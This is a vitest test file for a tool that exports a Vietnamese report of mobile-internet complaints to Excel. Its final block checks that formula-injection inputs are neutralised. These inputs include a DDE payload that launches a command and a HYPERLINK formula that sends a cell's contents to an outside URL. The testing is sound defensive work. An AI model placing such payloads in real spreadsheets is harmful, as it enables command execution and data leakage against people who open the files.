import exceljs from "exceljs";
import readXlsxFile from "read-excel-file/node";
import { beforeAll, describe, expect, it } from "vitest";
import { type DossierInput, dossierData } from "../../../../src/signal-reports/dossier/dossier-data.ts";
import { summarise } from "../../../../src/signal-reports/dossier/summarise.ts";
import { writeWorkbook } from "../../../../src/signal-reports/dossier/workbook/write-workbook.node.ts";
import { sampleDossier, sampleRow } from "../sample.ts";
import { unzip } from "../unzip.ts";

async function workbook(change: Partial<DossierInput> = {}) {
  const data = dossierData.parse(sampleDossier(change));
  const file = await writeWorkbook(data, summarise(data));
  const sheets = await readXlsxFile(Buffer.from(file));
  const own = new exceljs.Workbook();
  await own.xlsx.load(Uint8Array.from(file).buffer);
  const rowsOf = (name: string) => sheets.find(({ sheet }) => sheet === name)?.data ?? [];
  return { file, sheets, rowsOf, own };
}

type Made = Awaited<ReturnType<typeof workbook>>;

describe("the workbook, opened by another library", () => {
  let made: Made;
  beforeAll(async () => {
    made = await workbook();
  });

  it("has three sheets", () => {
    expect(made.sheets.map(({ sheet }) => sheet)).toEqual(["Tổng hợp", "Phản ánh", "Phiếu trả lời"]);
  });

  it("sums up what the letter says", () => {
    const figures = new Map(made.rowsOf("Tổng hợp").map(([label, value]) => [label, value]));
    expect(Object.fromEntries(figures)).toMatchObject({
      "Số công văn": "01/YC-VHXH",
      "Ngày công văn": new Date("2026-11-21T00:00:00Z"),
      "Số phản ánh": 5,
      "Lượt người báo": 13,
      "Phản ánh có tọa độ": 4,
      "Tải xuống trung vị (Mbit/s)": 3.2,
      "Mức tải xuống đặt ra (Mbit/s)": 40,
      "Kết quả thấp hơn mức": 2,
      "Hạn trả lời": new Date("2026-12-07T00:00:00Z"),
    });
  });

  it("lists the areas below the figures", () => {
    const rows = made.rowsOf("Tổng hợp");
    const head = rows.findIndex(([label]) => label === "Xóm, khu vực");
    expect(rows.slice(head)).toEqual([
      ["Xóm, khu vực", "Số phản ánh", "Lượt người báo", "Số hộ (ước tính)"],
      ["Xóm 5", 3, 5, 20],
      ["Xóm Na Quán", 2, 8, 9],
    ]);
  });

  it("has a report a row with numbers as numbers and times as Vietnam's clocks show them", () => {
    const [head, first, , , noPlace] = made.rowsOf("Phản ánh");
    expect(head?.slice(0, 5)).toEqual(["STT", "Mã phản ánh", "Xóm, khu vực", "Vĩ độ", "Kinh độ"]);
    expect(first).toEqual([
      1,
      "NH-26-0042",
      "Xóm 5",
      21.635,
      105.912,
      "dữ liệu di động",
      "trong nhà",
      "buổi tối",
      "từ đầu tháng",
      12,
      3.2,
      1,
      80,
      "thấp hơn",
      3,
      new Date("2026-11-12T20:05:00Z"),
    ]);
    expect(noPlace?.slice(3, 5)).toEqual([null, null]);
  });

  it("asks for station, distance, cause, plan and day", () => {
    const rows = made.rowsOf("Phiếu trả lời");
    expect(rows.find(([label]) => label === "Nhà mạng")?.[1]).toBe("Viettel");
    expect(rows.slice(-5).map(([label]) => label)).toEqual([
      "Trạm phục vụ",
      "Khoảng cách từ trạm đến nơi phản ánh (km)",
      "Nguyên nhân",
      "Phương án khắc phục",
      "Ngày hoàn thành",
    ]);
  });

  it("compares with no target where none is set", async () => {
    const { rowsOf } = await workbook({ target: null });
    expect(rowsOf("Phản ánh")[0]).not.toContain("So với mức");
    expect(rowsOf("Tổng hợp").map(([label]) => label)).not.toContain("Kết quả thấp hơn mức");
  });
});

describe("the workbook's set-up", () => {
  let made: Made;
  beforeAll(async () => {
    made = await workbook();
  });

  it("filters and freezes the list under its heading, repeated on each printed page", () => {
    const sheet = made.own.getWorksheet("Phản ánh");
    expect(sheet?.autoFilter).toBe("A1:P6");
    expect(sheet?.views[0]).toMatchObject({ state: "frozen", ySplit: 1 });
    expect(sheet?.pageSetup).toMatchObject({ printTitlesRow: "1:1", orientation: "landscape" });
  });

  it("prints on A4, one page wide", () => {
    for (const sheet of made.own.worksheets)
      expect(sheet.pageSetup).toMatchObject({ paperSize: 9, fitToPage: true, fitToWidth: 1, fitToHeight: 0 });
  });

  it("lets only the form's five yellow cells be written", () => {
    const sheet = made.own.getWorksheet("Phiếu trả lời");
    const open: string[] = [];
    sheet?.eachRow((row) =>
      row.eachCell({ includeEmpty: true }, (cell) => {
        if (cell.protection?.locked === false) open.push(cell.address);
      }),
    );
    expect(open).toEqual(["B7", "B8", "B9", "B10", "B11"]);
    expect(unzip(made.file).get("xl/worksheets/sheet3.xml")).toMatch(/<sheetProtection[^>]*sheet="1"/);
  });

  it("keeps what does not fit on a line readable", async () => {
    const { own } = await workbook({ rows: [sampleRow({ area: "Đ".repeat(500) })] });
    const row = own.getWorksheet("Phản ánh")?.getRow(2);
    expect(row?.height).toBeGreaterThan(100);
    expect(row?.height).toBeLessThanOrEqual(409);
    expect(row?.getCell(3).alignment?.wrapText).toBe(true);
  });
});

describe("a workbook of hostile words", () => {
  const attack = '=HYPERLINK("http://example.com/?"&A1,"bấm vào đây")';

  it("holds them as text with an apostrophe, never as a formula or a link", async () => {
    const { file, rowsOf } = await workbook({
      number: "=1+1",
      incident: { place: "@SUM(1)", kind: "total", since: null },
      rows: [sampleRow({ area: attack, when: "+1", since: "-2", code: "=cmd|' /C calc'!A0" })],
    });
    const parts = unzip(file);
    for (const [name, xml] of parts)
      if (name.startsWith("xl/worksheets/")) expect(xml, name).not.toMatch(/<f[ >]|<hyperlink/);
    const row = rowsOf("Phản ánh")[1] ?? [];
    expect(row[1]).toBe("'=cmd|' /C calc'!A0");
    expect(row[2]).toBe(`'${attack}`);
    expect(row.slice(7, 9)).toEqual(["'+1", "'-2"]);
    const texts = ["Tổng hợp", "Phản ánh", "Phiếu trả lời"].flatMap((name) => rowsOf(name).flat());
    for (const text of texts) if (typeof text === "string") expect(text).not.toMatch(/^\s*[=+\-@]/);
  });

  it("holds 300 rows", async () => {
    const rows = Array.from({ length: 300 }, (_, index) => sampleRow({ code: `NH-26-${index}` }));
    const { rowsOf, own } = await workbook({ rows });
    expect(rowsOf("Phản ánh")).toHaveLength(301);
    expect(own.getWorksheet("Phản ánh")?.autoFilter).toBe("A1:P301");
  });
});
